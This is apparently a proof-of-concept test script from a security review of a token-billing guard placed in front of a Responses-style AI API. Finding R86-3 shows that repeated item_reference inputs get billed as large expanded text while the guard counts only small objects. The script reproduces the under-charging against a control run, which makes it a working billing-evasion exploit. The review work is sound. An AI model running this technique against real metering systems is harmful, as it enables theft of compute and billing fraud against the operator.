// R86-3: R84-1's record of an unread job's stored context counts the job's input as the guard estimates it
// from the request. A Responses input item {"type": "item_reference", "id": "msg_..."} is expanded by the
// origin to the stored item it names (OpenAI documents item references in input), so 20 references to one
// ~5,000-token stored message are ~200,000 tokens billed that the guard counts as ~40 small objects.
// One key: a foreground turn stores the document (charged exactly), then 4 background jobs chained by
// previous_response_id, each with 20 references to the document's item, none retrieved; one tiny reader turn.
// Control: the same 4 jobs with the document's text inline (40 copies) on a fresh key.
import { api, newKey, charged, billed, waitDone, words } from './lib.mjs';
const DOC = words(20000 / 5, 7); // ~5,000 tokens
async function run(tag, inline) {
  const K = newKey(tag); const t0 = Date.now();
  const seed = await api(K, 'POST', '/v1/responses', { model: 'o4-mini', input: [{ type: 'message', role: 'user', content: [{ type: 'input_text', text: DOC }] }], max_output_tokens: 16 }, { 'x-out': '16' });
  const item = await api(K, 'GET', `/v1/responses/${seed.j.id}/input_items`);
  const ref = item.j.data?.[0]?.id;
  let prev = null; let refused = 0;
  for (let i = 0; i < 4; i++) {
    const many = Array.from({ length: 20 }, () => (inline ? { type: 'message', role: 'user', content: [{ type: 'input_text', text: DOC }] } : { type: 'item_reference', id: ref }));
    const r = await api(K, 'POST', '/v1/responses', { model: 'o4-mini', background: true, input: [...many, { type: 'message', role: 'user', content: [{ type: 'input_text', text: `Compare clause ${i} across every copy.` }] }], max_output_tokens: 1000, ...(prev ? { previous_response_id: prev } : {}) }, { 'x-out': '1000', 'x-job-ms': '300' });
    if (r.status !== 200) { refused++; console.log(tag, 'job', i, r.status, JSON.stringify(r.j).slice(0, 300)); break; }
    prev = r.j.id; await waitDone(prev);
  }
  const rd = await api(K, 'POST', '/v1/responses', { model: 'o4-mini', input: 'ok', max_output_tokens: 16, previous_response_id: prev }, { 'x-out': '16' });
  const b = await billed(K), c = (await charged(K, t0)).drawn;
  return { ref, b, c, refused, rd: rd.status };
}
const ctl = await run('inline', true);
const atk = await run('ref', false);
console.log(`control (document inline x20): billed ${ctl.b}, charged ${ctl.c} (${(ctl.b / ctl.c).toFixed(2)}x), refused ${ctl.refused}`);
console.log(`attack (item_reference ${atk.ref} x20): billed ${atk.b}, charged ${atk.c} (${(atk.b / atk.c).toFixed(2)}x), refused ${atk.refused}, reader ${atk.rd}`);
const ratio = atk.b / atk.c;
console.log(ratio > 1.5 ? `REPRODUCED: item references billed ${atk.b} charged ${atk.c} (${ratio.toFixed(2)}x under; inline ${(ctl.b / ctl.c).toFixed(2)}x)` : `not reproduced: ${ratio.toFixed(2)}x`);
